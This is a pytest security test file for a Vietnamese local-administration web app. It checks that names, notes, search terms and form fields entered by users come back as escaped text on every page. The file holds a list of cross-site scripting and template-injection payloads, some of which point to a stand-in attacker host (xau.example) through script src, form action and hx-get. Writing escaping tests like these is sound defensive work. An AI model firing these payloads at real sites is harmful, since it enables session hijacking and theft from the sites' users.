"""What people type comes out as the text it is, on every page that shows it."""

import json

import pytest
from bs4 import BeautifulSoup
from sqlalchemy import select

from blueprints.accounts.models import Account
from blueprints.teams.models import Membership, Team
from blueprints.units.models import Signer, Unit
from core.access import Role
from core.database import db
from tests.builders import PASSWORD

pytestmark = pytest.mark.one_database

PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt src=//xau.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '"><b onmouseover="alert(1)">x</b>',
    "'><b onmouseover='alert(1)'>x</b>",
    '" autofocus onfocus="alert(1)',
    "' onfocus='alert(1)",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</option></select><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<form action=//xau.example><input name=x>",
    '<div hx-get="//xau.example" hx-trigger="load">x</div>',
    "<style>*{display:none}</style>",
    "{{7*191}}<b>{%x%}${7*191}</b>",
)
ACTIVE = "script:not([src]), iframe, object, embed, style, b[onmouseover], img[onerror], svg, [style]"


def alive(html: str) -> list[str]:
    """What of the typed text a browser would act on."""
    page = BeautifulSoup(html, "html.parser")
    handlers = [tag for tag in page.find_all(True) if any(name.startswith("on") for name in tag.attrs)]
    elsewhere = page.select("[href^='javascript'], [action^='//'], [hx-get^='//']")
    raw = [payload for payload in PAYLOADS if "<" in payload and payload in html]
    computed = ["7*191 was computed"] if "1337" in html else []
    return [str(one)[:80] for one in [*page.select(ACTIVE), *handlers, *elsewhere, *raw, *computed]]


@pytest.fixture
def commune(make):
    return make.commune("Bản Mẫu")


@pytest.fixture
def officer(make, browse, commune):
    return browse(make.account(Role.OFFICER, commune))


@pytest.fixture
def administrator(make, browse, commune):
    return browse(make.account(Role.ADMINISTRATOR, commune))


def typed_villages(make, commune, officer, administrator):
    for payload in PAYLOADS:
        officer.bare("POST", f"/don-vi/{commune.code}/thon/moi", data={"type_name": "Xóm", "name": payload})
    codes = db.session.scalars(select(Unit.code).where(Unit.parent_id == commune.id)).all()
    return officer, [f"/don-vi/{commune.code}", "/to/moi", *(f"/don-vi/{code}" for code in codes)]


def typed_teams(make, commune, officer, administrator):
    make.many_teams(commune, len(PAYLOADS))
    ids = db.session.scalars(select(Team.id)).all()
    for team_id, payload in zip(ids, PAYLOADS, strict=True):
        officer.bare("POST", f"/to/{team_id}/ten", data={"name": payload, "revision": "1"})
    return officer, ["/to/", *(f"/to/{id_}" for id_ in ids), *(f"/to/{id_}/ten" for id_ in ids)]


def typed_members(make, commune, officer, administrator):
    team = make.team(make.village(commune))
    for ordinal, payload in enumerate(PAYLOADS):
        facts = {"full_name": "Trần Thị Thử", "role": "member", "sex": "", "birth_year": str(1960 + ordinal)}
        texts = {"occupation": payload, "address": payload, "note": payload}
        officer.bare("POST", f"/to/{team.id}/thanh-vien/moi", data=facts | texts)
    ids = db.session.scalars(select(Membership.id)).all()
    return officer, [f"/to/{team.id}", *(f"/to/{team.id}/thanh-vien/{id_}" for id_ in ids)]


def typed_accounts(make, commune, officer, administrator):
    for ordinal, payload in enumerate(PAYLOADS):
        facts = {"username": f"ten.{ordinal:02}", "password": PASSWORD, "role": "leader"}
        texts = {"full_name": payload, "unit_code": commune.code}
        administrator.bare("POST", "/tai-khoan/moi", data=facts | texts)
    ids = db.session.scalars(select(Account.id).where(Account.role == Role.LEADER)).all()
    return administrator, ["/tai-khoan", "/nhat-ky", *(f"/tai-khoan/{id_}" for id_ in ids)]


def typed_signers(make, commune, officer, administrator):
    path = f"/don-vi/{commune.code}/co-quan/ubnd"
    for payload in PAYLOADS:
        facts = {"standing": "c_deputy", "from_on": "01/07/2025"}
        texts = {"full_name": payload[:50], "position": payload[:60], "legal_basis": payload}
        administrator.bare("POST", f"{path}/nguoi-ky/moi", data=facts | texts)
    ids = db.session.scalars(select(Signer.id)).all()
    return administrator, [f"/don-vi/{commune.code}", *(f"{path}/nguoi-ky/{id_}/thoi" for id_ in ids)]


TYPED = {
    "villages": typed_villages,
    "teams": typed_teams,
    "members": typed_members,
    "accounts": typed_accounts,
    "signers": typed_signers,
}


@pytest.mark.parametrize("noun", TYPED)
def test_what_was_typed_is_text_on_every_page_that_shows_it(make, commune, officer, administrator, noun):
    browser, pages = TYPED[noun](make, commune, officer, administrator)
    assert len(pages) > len(PAYLOADS), "the text was not kept, so nothing is shown"
    answers = {path: browser.bare("GET", path) for path in pages}
    assert {path: found for path, answer in answers.items() if (found := alive(answer.text))} == {}


REFUSED = ("full_name", "role", "birth_year", "sex", "phone", "note", "name", "type_name", "revision")


@pytest.mark.parametrize("path", ["to/{team}/thanh-vien/moi", "to/{team}/ten", "don-vi/{code}/thon/moi"])
def test_what_was_refused_is_text_in_its_field(make, commune, officer, path):
    address = "/" + path.format(team=make.team(make.village(commune)).id, code=commune.code)
    answers = [officer.bare("POST", address, data=dict.fromkeys(REFUSED, payload)) for payload in PAYLOADS]
    assert {answer.status_code for answer in answers} <= {409, 422}
    assert [found for answer in answers if (found := alive(answer.text))] == []


def test_what_was_kept_through_a_sign_in_is_text(make, browse):
    account = make.account()
    kept = {
        "kept_path": f"/to/?q={''.join(PAYLOADS)}",
        "kept_fields": json.dumps([[payload, payload] for payload in PAYLOADS]),
    }
    typed = {"username": account.username, "password": PASSWORD}
    answer = browse().open("/dang-nhap").bare("POST", "/dang-nhap", data=kept | typed)
    assert "Gửi tiếp" in answer.text
    assert alive(answer.text) == []


@pytest.mark.parametrize(
    ("path", "name"),
    [("/to/", "q"), ("/to/", "xa"), ("/to/", "tinh-trang"), ("/don-vi/", "q"), ("/so-van-ban", "don-vi")],
)
def test_what_was_searched_for_is_text(officer, path, name):
    answers = [officer.bare("GET", path, query_string={name: payload}) for payload in PAYLOADS]
    assert [found for answer in answers if (found := alive(answer.text))] == []
